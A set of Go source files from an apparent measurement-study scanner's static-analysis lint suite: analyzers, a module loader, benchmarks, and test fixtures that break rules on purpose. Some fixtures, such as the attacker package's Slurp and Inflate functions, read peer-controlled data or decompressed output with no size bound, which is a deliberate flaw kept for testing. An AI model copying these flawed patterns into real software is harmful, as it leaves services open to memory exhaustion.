// what bench.sh records in BENCH_pr6.json).
func loadRealModule(b *testing.B) []*Package {
	b.Helper()
	root, err := FindModuleRoot(".")
	if err != nil {
		b.Fatalf("FindModuleRoot: %v", err)
	}
	pkgs, err := LoadModule(root)
	if err != nil {
		b.Fatalf("LoadModule: %v", err)
	}
	return pkgs
}

// BenchmarkAnalyzer times each rule alone over the real module.
func BenchmarkAnalyzer(b *testing.B) {
	pkgs := loadRealModule(b)
	for _, a := range Analyzers() {
		b.Run(a.Name, func(b *testing.B) {
			for i := 0; i < b.N; i++ {
				RunSuite(pkgs, []*Analyzer{a})
			}
		})
	}
}

// BenchmarkSuite times the full eight-rule pass over pre-loaded packages
// — the cost CI pays on top of type-checking for every push.
func BenchmarkSuite(b *testing.B) {
	pkgs := loadRealModule(b)
	analyzers := Analyzers()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		RunSuite(pkgs, analyzers)
	}
}

// BenchmarkSuiteLoadAndRun times the end-to-end mavlint invocation: parse
// and type-check the module, then run every rule. This is the number the
// "suite stays under ~10s" budget constrains.
func BenchmarkSuiteLoadAndRun(b *testing.B) {
	for i := 0; i < b.N; i++ {
		root, err := FindModuleRoot(".")
		if err != nil {
			b.Fatal(err)
		}
		pkgs, err := LoadModule(root)
		if err != nil {
			b.Fatal(err)
		}
		RunSuite(pkgs, Analyzers())
	}
}
