// Package lint is mavscan's in-repo static-analysis engine.
//
// The paper's methodology imposes invariants that ordinary Go tooling
// cannot check: MAV detection probes must be non-state-changing GET
// requests (§3.1, Appendix A), the longitudinal experiments must replay
// deterministically on the simulated clock, and the simulation must never
// reach the real network. Each invariant is encoded as an Analyzer over
// the type-checked AST of every package in the module; cmd/mavlint runs
// the suite and fails the build on any violation, so scale-up refactors
// cannot silently break the study's safety or reproducibility rules.
//
// The engine is deliberately dependency-free: it uses only go/parser,
// go/ast, go/types and go/importer from the standard library.
package lint

import (
	"fmt"
	"go/ast"
	"go/token"
	"go/types"
	"sort"
	"strings"
)

// Finding is one rule violation at a source position.
type Finding struct {
	Pos  token.Position
	Rule string
	Msg  string
}

// String renders the finding in the canonical "file:line: [rule] message"
// diagnostic format.
func (f Finding) String() string {
	return fmt.Sprintf("%s:%d: [%s] %s", f.Pos.Filename, f.Pos.Line, f.Rule, f.Msg)
}

// Package is one loaded, type-checked package presented to analyzers.
type Package struct {
	// Path is the import path, e.g. "mavscan/internal/portscan".
	Path string
	// Fset positions the ASTs in Files.
	Fset *token.FileSet
	// Files holds the parsed non-test sources of the package.
	Files []*ast.File
	// Types is the type-checked package object.
	Types *types.Package
	// Info carries identifier resolution and expression types.
	Info *types.Info
}

// Analyzer is a single named rule.
type Analyzer struct {
	// Name is the rule identifier printed inside [brackets].
	Name string
	// Doc is a one-line description shown by mavlint -rules.
	Doc string
	// Paper names the paper constraint the rule encodes.
	Paper string
	// Run inspects one package and returns its violations.
	Run func(pkg *Package) []Finding
}

// Analyzers returns the full suite in stable order.
func Analyzers() []*Analyzer {
	return []*Analyzer{
		AnalyzerGetOnly,
		AnalyzerSimClock,
		AnalyzerHermetic,
		AnalyzerGoLeak,
		AnalyzerErrDrop,
		AnalyzerBoundedRead,
		AnalyzerMapDet,
		AnalyzerCtxLoop,
	}
}

// ByName returns the named analyzer, or nil.
func ByName(name string) *Analyzer {
	for _, a := range Analyzers() {
		if a.Name == name {
			return a
		}
	}
	return nil
}

// RunSuite applies every analyzer to every package and returns the
// findings sorted by file, line, then rule.
func RunSuite(pkgs []*Package, analyzers []*Analyzer) []Finding {
	var out []Finding
	for _, pkg := range pkgs {
		for _, a := range analyzers {
			out = append(out, a.Run(pkg)...)
		}
	}
	sort.Slice(out, func(i, j int) bool {
		if out[i].Pos.Filename != out[j].Pos.Filename {
			return out[i].Pos.Filename < out[j].Pos.Filename
		}
		if out[i].Pos.Line != out[j].Pos.Line {
			return out[i].Pos.Line < out[j].Pos.Line
		}
		return out[i].Rule < out[j].Rule
	})
	return out
}

// pathIsOrUnder reports whether path equals prefix or is a package below
// it (segment-aware, so "a/bc" is not under "a/b").
func pathIsOrUnder(path, prefix string) bool {
	return path == prefix || strings.HasPrefix(path, prefix+"/")
}

// pathUnderAny reports whether path is or sits under any of the prefixes.
func pathUnderAny(path string, prefixes []string) bool {
	for _, p := range prefixes {
		if pathIsOrUnder(path, p) {
			return true
		}
	}
	return false
}

// usedObject resolves an identifier or selector to the object it refers
// to, or nil.
func usedObject(info *types.Info, expr ast.Expr) types.Object {
	switch e := expr.(type) {
	case *ast.Ident:
		return info.Uses[e]
	case *ast.SelectorExpr:
		return info.Uses[e.Sel]
	}
	return nil
}

// objectFromPkg reports whether obj is declared in the package with the
// given import path and has one of the given names.
func objectFromPkg(obj types.Object, pkgPath string, names ...string) bool {
	if obj == nil || obj.Pkg() == nil || obj.Pkg().Path() != pkgPath {
		return false
	}
	for _, n := range names {
		if obj.Name() == n {
			return true
		}
	}
	return false
}

// packageLevel reports whether obj is a package-level function, variable,
// or constant — as opposed to a method or struct field that merely shares
// a name with one (time.Time.After vs time.After, http.Header.Get vs
// http.Get).
func packageLevel(obj types.Object) bool {
	switch o := obj.(type) {
	case *types.Func:
		sig, ok := o.Type().(*types.Signature)
		return ok && sig.Recv() == nil
	case *types.Var:
		return !o.IsField()
	}
	return true
}

// position returns the token.Position of a node within pkg.
func (pkg *Package) position(n ast.Node) token.Position {
	return pkg.Fset.Position(n.Pos())
}
