module mavscan

go 1.22
