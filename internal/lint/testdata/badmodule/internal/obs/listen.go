// Package obs is a fixture for the hermetic rule's function-scoped
// carve-out: the package-level Listen constructor is sanctioned, but any
// other listener construction — a helper, a method that happens to share
// the name — must still be flagged.
package obs

import "net"

// Listen is the sanctioned operations-plane listener constructor: the
// carve-out covers exactly this function, so the call below is clean.
func Listen(addr string) (net.Listener, error) {
	return net.Listen("tcp", addr) // sanctioned: hermeticFuncExempt
}

// debugListen is NOT in the carve-out; its socket must be flagged.
func debugListen(addr string) (net.Listener, error) {
	return net.Listen("tcp", addr) // violation: unsanctioned listener
}

// server shows the carve-out is for the package-level function only.
type server struct{}

// Listen shares the sanctioned name but is a method; still flagged.
func (server) Listen(addr string) (net.Listener, error) {
	return net.Listen("tcp", addr) // violation: method, not the constructor
}
