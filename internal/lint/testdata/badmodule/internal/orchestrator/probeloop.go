// Package orchestrator is a fixture violating the ctxloop rule: it keeps
// issuing probe work after the surrounding scan has been canceled.
package orchestrator

import "context"

// Prober issues one cancellable probe.
type Prober interface {
	Probe(ctx context.Context, addr string) error
}

// Sweep drains its whole backlog even after ctx is canceled. (Violation:
// the loop passes the outer ctx into per-iteration work but never checks
// it.)
func Sweep(ctx context.Context, p Prober, addrs []string) {
	for _, a := range addrs {
		p.Probe(ctx, a)
	}
}

// Checked is the clean counterpart: it observes cancellation between
// probes.
func Checked(ctx context.Context, p Prober, addrs []string) error {
	for _, a := range addrs {
		if err := ctx.Err(); err != nil {
			return err
		}
		p.Probe(ctx, a)
	}
	return nil
}
