// Package portscan is a fixture violating the simclock rule: it reads
// the ambient wall clock instead of an injected simtime.Clock.
package portscan

import "time"

// BadPace demonstrates direct wall-clock access.
func BadPace() time.Duration {
	start := time.Now() // violation: time.Now
	time.Sleep(time.Millisecond)
	return time.Since(start) // violation: time.Since
}
