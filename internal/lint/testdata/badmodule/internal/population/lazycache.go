// Package population is a fixture violating the mapdet rule with the shape
// the lazy world generator must avoid: a map-backed host cache whose
// eviction and persistence paths let random map-iteration order reach
// order-sensitive sinks. A real lazy cache must evict from an explicit
// deterministic queue (FIFO of first materialization), never by walking
// the map.
package population

import (
	"fmt"
	"io"
)

type entry struct {
	spec string
	hits int
}

// cache is a lazy materialization table keyed by address.
type cache struct {
	entries map[uint32]*entry
	journal []string
}

// evict drops entries until the cache is back under cap, picking victims
// in map order.
func (c *cache) evict(cap int) {
	for key, e := range c.entries {
		if len(c.entries) <= cap {
			break
		}
		delete(c.entries, key)
		// Violation: the eviction journal records victims in random
		// map-iteration order, so two same-seed runs journal differently.
		c.journal = append(c.journal, fmt.Sprintf("evict %d (%s)", key, e.spec))
	}
}

// snapshot persists the resident set straight out of the map.
func (c *cache) snapshot(w io.Writer) {
	for key, e := range c.entries {
		// Violation: the snapshot stream is written in map order.
		fmt.Fprintf(w, "%d %s %d\n", key, e.spec, e.hits)
	}
}
