// Package telemetry is a fixture violating three rules at once, pinning
// down that the metrics layer itself is covered by the suite: it stamps
// samples from the ambient wall clock (simclock), pushes them over the
// real network (hermetic), and does so from an untracked background
// goroutine (goleak).
package telemetry

import (
	"net/http"
	"time"
)

// BadFlusher pushes metrics in the background forever.
func BadFlusher(url string) {
	go func() { // violation: nothing bounds this goroutine's lifetime
		for {
			stamp := time.Now() // violation: time.Now
			resp, err := http.Get(url + "?t=" + stamp.String()) // violation: real network via http.Get
			if err != nil {
				continue
			}
			resp.Body.Close()
		}
	}()
}
