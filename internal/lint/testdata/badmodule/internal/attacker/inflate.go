package attacker

import (
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"io"
	"net"
	"net/http"
)

// Inflate demonstrates decompressor laundering: a gzip/flate/zlib reader
// over peer-controlled bytes is still peer-controlled — amplified, even —
// and consuming its output without a fresh bound must be flagged.
func Inflate(resp *http.Response, conn net.Conn) []byte {
	// Violation: gzip over the body, inflated output read unbounded.
	zr, _ := gzip.NewReader(resp.Body)
	out, _ := io.ReadAll(zr)

	// Violation: flate directly over a network connection, copied out.
	fr := flate.NewReader(conn)
	io.Copy(io.Discard, fr)

	// Violation: zlib output drained through a raw Read loop.
	zl, _ := zlib.NewReader(resp.Body)
	buf := make([]byte, 512)
	for {
		n, err := zl.Read(buf)
		if err != nil {
			break
		}
		out = append(out, buf[:n]...)
	}
	return out
}

// InflateCapped is the clean counterpart: the decompressor's *output* is
// re-bounded before consumption, which is the fix the rule points at.
func InflateCapped(resp *http.Response) ([]byte, error) {
	zr, err := gzip.NewReader(resp.Body)
	if err != nil {
		return nil, err
	}
	return io.ReadAll(io.LimitReader(zr, 1<<20))
}

// InflateBuffered decompresses an already-materialized buffer: the input
// is bounded, so the output draws no finding here (ratio caps are the
// runtime's job, not the lint's).
func InflateBuffered(data []byte) ([]byte, error) {
	zr := flate.NewReader(bytes.NewReader(data))
	return io.ReadAll(io.LimitReader(zr, 1<<20))
}
