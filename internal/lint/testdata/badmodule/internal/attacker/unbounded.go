// Package attacker is a fixture violating the boundedread rule: it
// consumes peer-controlled readers without a size bound.
package attacker

import (
	"bufio"
	"encoding/json"
	"io"
	"net"
	"net/http"
)

// Slurp demonstrates every unbounded-consumption shape boundedread flags.
func Slurp(resp *http.Response, conn net.Conn) []byte {
	// Violation: io.ReadAll of a response body.
	body, _ := io.ReadAll(resp.Body)

	// Violation: io.Copy whose source is a network connection.
	io.Copy(io.Discard, conn)

	// Violation: bufio.Scanner over a network connection.
	sc := bufio.NewScanner(conn)
	for sc.Scan() {
		body = append(body, sc.Bytes()...)
	}

	// Violation: json decoder fed directly from the body.
	var v map[string]interface{}
	json.NewDecoder(resp.Body).Decode(&v)

	// Violation: raw Read loop draining the connection.
	buf := make([]byte, 512)
	for {
		n, err := conn.Read(buf)
		if err != nil {
			break
		}
		body = append(body, buf[:n]...)
	}
	return body
}

// Capped is the clean counterpart: every read flows through a bound.
func Capped(resp *http.Response) ([]byte, error) {
	return io.ReadAll(io.LimitReader(resp.Body, 1<<20))
}
