// Package resilience is a fixture violating the simclock rule: a retry
// loop that backs off with real time.Sleep calls instead of waiting on an
// injected simtime.Sleeper, which would stall a simulated study and break
// run-to-run determinism.
package resilience

import "time"

// BadBackoff retries fn with wall-clock sleeps between attempts.
func BadBackoff(fn func() error) error {
	delay := 10 * time.Millisecond
	var err error
	for attempt := 0; attempt < 3; attempt++ {
		if err = fn(); err == nil {
			return nil
		}
		time.Sleep(delay) // violation: wall-clock backoff
		delay *= 2
	}
	return err
}
