// Package prefilter is a fixture violating the getonly rule: it builds
// state-changing HTTP requests inside a detection-path package.
package prefilter

import (
	"context"
	"net/http"
	"strings"
)

// BadProbe demonstrates every getonly violation shape.
func BadProbe(ctx context.Context, client *http.Client, base string) error {
	// Violation: http.Method* constant reference.
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, base+"/install", strings.NewReader("step=1"))
	if err != nil {
		return err
	}
	resp, err := client.Do(req)
	if err != nil {
		return err
	}
	resp.Body.Close()

	// Violation: string-literal non-GET method.
	del, err := http.NewRequest("DELETE", base+"/v1/agent", nil)
	if err != nil {
		return err
	}
	_ = del

	// Violation: client.Post helper.
	resp2, err := client.Post(base+"/api", "application/json", strings.NewReader("{}"))
	if err != nil {
		return err
	}
	return resp2.Body.Close()
}
