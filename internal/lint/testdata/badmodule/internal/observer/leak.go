// Package observer is a fixture violating the goleak rule: it spawns a
// goroutine with no WaitGroup, channel, or context tie.
package observer

// BadSpawn leaks an untracked goroutine.
func BadSpawn(work func(int)) {
	go func() { // violation: nothing bounds this goroutine's lifetime
		for i := 0; i < 1000; i++ {
			work(i)
		}
	}()
}
