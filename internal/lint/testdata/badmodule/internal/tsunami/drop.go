// Package tsunami is a fixture violating the errdrop rule: it assigns
// error returns to the blank identifier in scan-pipeline code.
package tsunami

import "strconv"

// BadParse silently discards parse failures.
func BadParse(raw string) int {
	n, _ := strconv.Atoi(raw) // violation: error result dropped
	_ = checkVersion(raw)     // violation: error value dropped
	return n
}

func checkVersion(v string) error {
	if v == "" {
		return strconv.ErrSyntax
	}
	return nil
}
