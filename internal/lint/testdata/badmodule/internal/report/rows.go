// Package report is a fixture violating the mapdet rule: it lets random
// map-iteration order reach report rows and output streams.
package report

import (
	"fmt"
	"io"
	"sort"
)

// Rows appends one row per map entry without ever sorting the result.
func Rows(counts map[string]int) []string {
	var out []string
	for k, v := range counts {
		// Violation: rows materialize in map order.
		out = append(out, fmt.Sprintf("%s=%d", k, v))
	}
	return out
}

// Emit streams entries straight out of the map.
func Emit(w io.Writer, counts map[string]int) {
	for k, v := range counts {
		// Violation: emission order is the map order.
		fmt.Fprintf(w, "%s %d\n", k, v)
	}
}

// Bucket grows a shared bucket keyed by a constant, not the loop key.
func Bucket(src map[string]int, dst map[string][]int) {
	for _, v := range src {
		// Violation: one bucket accumulates in map order.
		dst["all"] = append(dst["all"], v)
	}
}

// Sorted is the clean counterpart: collect, then sort before use.
func Sorted(counts map[string]int) []string {
	out := make([]string, 0, len(counts))
	for k := range counts {
		out = append(out, k)
	}
	sort.Strings(out)
	return out
}
