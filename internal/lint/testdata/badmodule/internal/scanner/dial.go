// Package scanner is a fixture violating the hermetic rule: it reaches
// the real network instead of dialing through simnet.
package scanner

import (
	"net"
	"net/http"
)

// BadDial demonstrates real-socket access from pipeline code.
func BadDial(addr string) error {
	conn, err := net.Dial("tcp", addr) // violation: real socket
	if err != nil {
		return err
	}
	conn.Close()
	resp, err := http.DefaultClient.Get("http://" + addr) // violation: default transport
	if err != nil {
		return err
	}
	return resp.Body.Close()
}
