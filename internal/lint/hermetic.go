package lint

import (
	"fmt"
	"go/ast"
)

// hermeticExempt lists the packages that implement the simulated network
// and therefore legitimately touch net primitives (simnet builds the
// in-process internet out of net.Pipe; httpsim adapts it to net/http).
var hermeticExempt = []string{
	"mavscan/internal/simnet",
	"mavscan/internal/httpsim",
}

// hermeticFuncExempt lists individual functions allowed to touch the
// banned primitives, keyed by package path. Unlike hermeticExempt this is
// function-scoped: the operations plane's listener constructor is the one
// sanctioned real socket (it validates loopback-only before binding), and
// scoping the carve-out to that single function keeps the rest of the
// package — handlers, renderers, the trace exporter — under the rule.
var hermeticFuncExempt = map[string][]string{
	"mavscan/internal/obs": {"Listen"},
	// DialLoopback is the client end of the same sanctioned socket: it
	// refuses non-loopback coordinators before dialing, mirroring
	// obs.Listen's bind-side validation.
	"mavscan/internal/fabric": {"DialLoopback"},
}

// hermeticNetBanned are the net-package entry points that would open real
// sockets. Address parsing and net.Conn plumbing remain allowed — only
// functions that reach the host network stack are banned.
var hermeticNetBanned = []string{
	"Dial", "DialTimeout", "DialIP", "DialTCP", "DialUDP", "DialUnix",
	"Listen", "ListenIP", "ListenTCP", "ListenUDP", "ListenPacket",
	"ListenUnix", "FileConn", "FileListener",
}

// hermeticHTTPBanned are the net/http globals and helpers that carry an
// implicit real-network transport. Scanning code must route every request
// through a client whose transport dials simnet.
var hermeticHTTPBanned = []string{
	"DefaultClient", "DefaultTransport", "Get", "Head", "Post", "PostForm",
}

// AnalyzerHermetic flags real-network access outside the simulation layer.
var AnalyzerHermetic = &Analyzer{
	Name:  "hermetic",
	Doc:   "only simnet/httpsim may touch net dialers/listeners or net/http defaults",
	Paper: "offline reproduction must never probe the live IPv4 space (§3.1 ethics)",
	Run:   runHermetic,
}

func runHermetic(pkg *Package) []Finding {
	if !pathIsOrUnder(pkg.Path, "mavscan/internal") || pathUnderAny(pkg.Path, hermeticExempt) {
		return nil
	}
	exemptFuncs := map[string]bool{}
	for _, name := range hermeticFuncExempt[pkg.Path] {
		exemptFuncs[name] = true
	}
	var out []Finding
	for _, file := range pkg.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			if fn, ok := n.(*ast.FuncDecl); ok && fn.Recv == nil && exemptFuncs[fn.Name.Name] {
				// The sanctioned carve-out: skip this function's body
				// entirely, but keep walking the rest of the file.
				return false
			}
			sel, ok := n.(*ast.SelectorExpr)
			if !ok {
				return true
			}
			obj := pkg.Info.Uses[sel.Sel]
			if !packageLevel(obj) {
				return true
			}
			switch {
			case objectFromPkg(obj, "net", hermeticNetBanned...):
				out = append(out, Finding{
					Pos:  pkg.position(sel),
					Rule: "hermetic",
					Msg:  fmt.Sprintf("net.%s opens a real socket; all traffic must flow through simnet", obj.Name()),
				})
			case objectFromPkg(obj, "net", "Dialer"):
				out = append(out, Finding{
					Pos:  pkg.position(sel),
					Rule: "hermetic",
					Msg:  "net.Dialer reaches the host network stack; dial through simnet instead",
				})
			case objectFromPkg(obj, "net/http", hermeticHTTPBanned...):
				out = append(out, Finding{
					Pos:  pkg.position(sel),
					Rule: "hermetic",
					Msg:  fmt.Sprintf("http.%s uses the real-network default transport; inject a simnet-backed client", obj.Name()),
				})
			}
			return true
		})
	}
	return out
}
