package lint

import (
	"fmt"
	"go/ast"
	"go/importer"
	"go/parser"
	"go/token"
	"go/types"
	"os"
	"path/filepath"
	"sort"
	"strings"
)

// LoadModule parses and type-checks every package of the Go module rooted
// at root (the directory containing go.mod). Test files (_test.go),
// testdata trees, hidden directories, and nested modules are skipped, the
// same set of sources `go build ./...` would compile.
func LoadModule(root string) ([]*Package, error) {
	modPath, err := modulePath(filepath.Join(root, "go.mod"))
	if err != nil {
		return nil, err
	}
	ld := newLoader(modPath, root)
	dirs, err := ld.discover()
	if err != nil {
		return nil, err
	}
	var pkgs []*Package
	for _, imp := range dirs {
		p, err := ld.load(imp)
		if err != nil {
			return nil, err
		}
		if p != nil {
			pkgs = append(pkgs, p)
		}
	}
	sort.Slice(pkgs, func(i, j int) bool { return pkgs[i].Path < pkgs[j].Path })
	return pkgs, nil
}

// LoadSource type-checks a single in-memory package for analyzer tests.
// files maps file names to source text; importPath controls which
// path-scoped rules apply. Imports must be resolvable by the compiler's
// default importer (i.e. standard library only).
func LoadSource(importPath string, files map[string]string) (*Package, error) {
	fset := token.NewFileSet()
	var names []string
	for name := range files {
		names = append(names, name)
	}
	sort.Strings(names)
	var parsed []*ast.File
	for _, name := range names {
		f, err := parser.ParseFile(fset, name, files[name], parser.ParseComments)
		if err != nil {
			return nil, err
		}
		parsed = append(parsed, f)
	}
	return typeCheck(importPath, fset, parsed, importer.Default())
}

// modulePath extracts the module declaration from a go.mod file.
func modulePath(gomod string) (string, error) {
	data, err := os.ReadFile(gomod)
	if err != nil {
		return "", fmt.Errorf("lint: reading %s: %w", gomod, err)
	}
	for _, line := range strings.Split(string(data), "\n") {
		line = strings.TrimSpace(line)
		if rest, ok := strings.CutPrefix(line, "module "); ok {
			return strings.TrimSpace(rest), nil
		}
	}
	return "", fmt.Errorf("lint: no module declaration in %s", gomod)
}

// loader loads module-local packages from source, delegating all other
// imports (the standard library) to the compiler's export-data importer.
type loader struct {
	module  string
	root    string
	fset    *token.FileSet
	std     types.Importer
	pkgs    map[string]*Package // import path -> loaded (nil while empty dir)
	loading map[string]bool     // cycle detection
}

func newLoader(module, root string) *loader {
	return &loader{
		module:  module,
		root:    root,
		fset:    token.NewFileSet(),
		std:     importer.Default(),
		pkgs:    make(map[string]*Package),
		loading: make(map[string]bool),
	}
}

// discover walks the module tree and returns the import path of every
// directory holding at least one non-test Go file.
func (ld *loader) discover() ([]string, error) {
	var out []string
	err := filepath.Walk(ld.root, func(path string, info os.FileInfo, err error) error {
		if err != nil {
			return err
		}
		if !info.IsDir() {
			return nil
		}
		base := filepath.Base(path)
		if path != ld.root {
			if strings.HasPrefix(base, ".") || strings.HasPrefix(base, "_") || base == "testdata" || base == "vendor" {
				return filepath.SkipDir
			}
			// A nested go.mod starts a different module.
			if _, err := os.Stat(filepath.Join(path, "go.mod")); err == nil {
				return filepath.SkipDir
			}
		}
		files, err := ld.sourceFiles(path)
		if err != nil {
			return err
		}
		if len(files) > 0 {
			out = append(out, ld.importPathFor(path))
		}
		return nil
	})
	return out, err
}

// importPathFor maps a directory inside the module to its import path.
func (ld *loader) importPathFor(dir string) string {
	rel, err := filepath.Rel(ld.root, dir)
	if err != nil || rel == "." {
		return ld.module
	}
	return ld.module + "/" + filepath.ToSlash(rel)
}

// dirFor maps an import path back to its directory.
func (ld *loader) dirFor(importPath string) string {
	if importPath == ld.module {
		return ld.root
	}
	rel := strings.TrimPrefix(importPath, ld.module+"/")
	return filepath.Join(ld.root, filepath.FromSlash(rel))
}

// sourceFiles lists the non-test .go files of a directory.
func (ld *loader) sourceFiles(dir string) ([]string, error) {
	entries, err := os.ReadDir(dir)
	if err != nil {
		return nil, err
	}
	var out []string
	for _, e := range entries {
		name := e.Name()
		if e.IsDir() || !strings.HasSuffix(name, ".go") || strings.HasSuffix(name, "_test.go") {
			continue
		}
		if strings.HasPrefix(name, ".") || strings.HasPrefix(name, "_") {
			continue
		}
		out = append(out, filepath.Join(dir, name))
	}
	sort.Strings(out)
	return out, nil
}

// Import implements types.Importer so module-internal dependencies resolve
// through the loader itself during type checking.
func (ld *loader) Import(path string) (*types.Package, error) {
	if path == ld.module || strings.HasPrefix(path, ld.module+"/") {
		p, err := ld.load(path)
		if err != nil {
			return nil, err
		}
		if p == nil {
			return nil, fmt.Errorf("lint: no Go files in %s", path)
		}
		return p.Types, nil
	}
	return ld.std.Import(path)
}

// load parses and type-checks one module-local package (memoized).
func (ld *loader) load(importPath string) (*Package, error) {
	if p, ok := ld.pkgs[importPath]; ok {
		return p, nil
	}
	if ld.loading[importPath] {
		return nil, fmt.Errorf("lint: import cycle through %s", importPath)
	}
	ld.loading[importPath] = true
	defer delete(ld.loading, importPath)

	files, err := ld.sourceFiles(ld.dirFor(importPath))
	if err != nil {
		return nil, fmt.Errorf("lint: %s: %w", importPath, err)
	}
	if len(files) == 0 {
		ld.pkgs[importPath] = nil
		return nil, nil
	}
	var parsed []*ast.File
	for _, file := range files {
		f, err := parser.ParseFile(ld.fset, file, nil, parser.ParseComments)
		if err != nil {
			return nil, err
		}
		parsed = append(parsed, f)
	}
	p, err := typeCheck(importPath, ld.fset, parsed, ld)
	if err != nil {
		return nil, err
	}
	ld.pkgs[importPath] = p
	return p, nil
}

// typeCheck runs go/types over parsed files and assembles a *Package.
func typeCheck(importPath string, fset *token.FileSet, files []*ast.File, imp types.Importer) (*Package, error) {
	info := &types.Info{
		Types:      make(map[ast.Expr]types.TypeAndValue),
		Defs:       make(map[*ast.Ident]types.Object),
		Uses:       make(map[*ast.Ident]types.Object),
		Selections: make(map[*ast.SelectorExpr]*types.Selection),
	}
	conf := types.Config{Importer: imp}
	tpkg, err := conf.Check(importPath, fset, files, info)
	if err != nil {
		return nil, fmt.Errorf("lint: type-checking %s: %w", importPath, err)
	}
	return &Package{Path: importPath, Fset: fset, Files: files, Types: tpkg, Info: info}, nil
}

// FindModuleRoot walks upward from dir to the nearest directory holding a
// go.mod file.
func FindModuleRoot(dir string) (string, error) {
	dir, err := filepath.Abs(dir)
	if err != nil {
		return "", err
	}
	for {
		if _, err := os.Stat(filepath.Join(dir, "go.mod")); err == nil {
			return dir, nil
		}
		parent := filepath.Dir(dir)
		if parent == dir {
			return "", fmt.Errorf("lint: no go.mod at or above %s", dir)
		}
		dir = parent
	}
}
