package lint

import (
	"fmt"
	"go/ast"
	"go/constant"
	"go/types"
)

// getonlyScope lists the detection-path packages restricted to
// non-state-changing requests. The paper's ethics rules (§3.1, Appendix A)
// allow MAV detection to issue only GET requests against live hosts, so
// everything that builds probes for the scanning pipeline is in scope.
var getonlyScope = []string{
	"mavscan/internal/tsunami/plugins",
	"mavscan/internal/prefilter",
	"mavscan/internal/fingerprint",
}

// getonlyAllowed documents the packages where state-changing requests are
// the point and therefore deliberately NOT in scope: the attacker emulation
// replays real exploitation traffic against honeypot instances we own, and
// the honeypot/apps layers *serve* such requests rather than sending them.
var getonlyAllowed = []string{
	"mavscan/internal/attacker",
	"mavscan/internal/honeypot",
	"mavscan/internal/apps",
}

// getonlySafeMethods are the request methods detection probes may use.
var getonlySafeMethods = map[string]bool{
	"GET":     true,
	"HEAD":    true,
	"OPTIONS": true,
}

// AnalyzerGetOnly flags construction of state-changing HTTP requests in
// the detection-path packages.
var AnalyzerGetOnly = &Analyzer{
	Name:  "getonly",
	Doc:   "detection-path packages must only construct non-state-changing HTTP requests",
	Paper: "§3.1 / Appendix A: MAV detection is restricted to GET requests",
	Run:   runGetOnly,
}

func runGetOnly(pkg *Package) []Finding {
	if !pathUnderAny(pkg.Path, getonlyScope) || pathUnderAny(pkg.Path, getonlyAllowed) {
		return nil
	}
	var out []Finding
	for _, file := range pkg.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			switch e := n.(type) {
			case *ast.SelectorExpr:
				obj := pkg.Info.Uses[e.Sel]
				if objectFromPkg(obj, "net/http", "MethodPost", "MethodPut", "MethodDelete", "MethodPatch") {
					out = append(out, Finding{
						Pos:  pkg.position(e),
						Rule: "getonly",
						Msg:  fmt.Sprintf("reference to http.%s in detection-path package (scan probes must be GET-only)", obj.Name()),
					})
				}
				// Both the package helpers (http.Post) and the client
				// methods (client.Post) build state-changing requests;
				// only same-named struct fields (Request.PostForm) pass.
				if _, isFunc := obj.(*types.Func); isFunc && objectFromPkg(obj, "net/http", "Post", "PostForm") {
					out = append(out, Finding{
						Pos:  pkg.position(e),
						Rule: "getonly",
						Msg:  fmt.Sprintf("call to %s constructs a state-changing request (scan probes must be GET-only)", obj.Name()),
					})
				}
			case *ast.CallExpr:
				if f := requestMethodArg(pkg, e); f != nil {
					out = append(out, *f)
				}
			}
			return true
		})
	}
	return out
}

// requestMethodArg inspects http.NewRequest / http.NewRequestWithContext
// calls whose method argument is a compile-time string that is not a safe
// method. Methods named via the http.Method* constants are caught by the
// selector check instead.
func requestMethodArg(pkg *Package, call *ast.CallExpr) *Finding {
	obj := usedObject(pkg.Info, call.Fun)
	var methodIdx int
	switch {
	case objectFromPkg(obj, "net/http", "NewRequest"):
		methodIdx = 0
	case objectFromPkg(obj, "net/http", "NewRequestWithContext"):
		methodIdx = 1
	default:
		return nil
	}
	if len(call.Args) <= methodIdx {
		return nil
	}
	arg := call.Args[methodIdx]
	// An http.Method* constant as the argument is already reported by the
	// selector check; don't double-count it.
	if sel, ok := arg.(*ast.SelectorExpr); ok {
		if obj := pkg.Info.Uses[sel.Sel]; obj != nil && obj.Pkg() != nil && obj.Pkg().Path() == "net/http" {
			return nil
		}
	}
	tv, ok := pkg.Info.Types[arg]
	if !ok || tv.Value == nil || tv.Value.Kind() != constant.String {
		return nil
	}
	method := constant.StringVal(tv.Value)
	if getonlySafeMethods[method] {
		return nil
	}
	return &Finding{
		Pos:  pkg.position(arg),
		Rule: "getonly",
		Msg:  fmt.Sprintf("request built with method %q in detection-path package (scan probes must be GET-only)", method),
	}
}
