package lint

import (
	"go/ast"
	"go/types"
)

// errdropScope lists the scan-pipeline packages where a silently dropped
// error can corrupt study results (a probe failure misread as "not
// vulnerable", a fingerprint parse failure misread as "no version").
// Simulation scaffolding and report rendering stay out of scope.
var errdropScope = []string{
	"mavscan/internal/portscan",
	"mavscan/internal/prefilter",
	"mavscan/internal/fingerprint",
	"mavscan/internal/tsunami",
	"mavscan/internal/scanner",
	"mavscan/internal/observer",
	"mavscan/internal/secscan",
}

// AnalyzerErrDrop flags error values assigned to the blank identifier in
// scan-pipeline packages.
var AnalyzerErrDrop = &Analyzer{
	Name:  "errdrop",
	Doc:   "scan-pipeline code must not assign error returns to _",
	Paper: "probe failures must be classified, not discarded (§3.2 measurement validity)",
	Run:   runErrDrop,
}

func runErrDrop(pkg *Package) []Finding {
	if !pathUnderAny(pkg.Path, errdropScope) {
		return nil
	}
	errIface := types.Universe.Lookup("error").Type().Underlying().(*types.Interface)
	var out []Finding
	for _, file := range pkg.Files {
		ast.Inspect(file, func(n ast.Node) bool {
			assign, ok := n.(*ast.AssignStmt)
			if !ok {
				return true
			}
			for i, lhs := range assign.Lhs {
				ident, ok := lhs.(*ast.Ident)
				if !ok || ident.Name != "_" {
					continue
				}
				t := rhsType(pkg, assign, i)
				if t != nil && types.Implements(t, errIface) {
					out = append(out, Finding{
						Pos:  pkg.position(ident),
						Rule: "errdrop",
						Msg:  "error result assigned to _; classify or propagate scan-pipeline failures",
					})
				}
			}
			return true
		})
	}
	return out
}

// rhsType resolves the type of the i-th assigned value, unpacking the
// tuple of a single multi-value call on the right-hand side.
func rhsType(pkg *Package, assign *ast.AssignStmt, i int) types.Type {
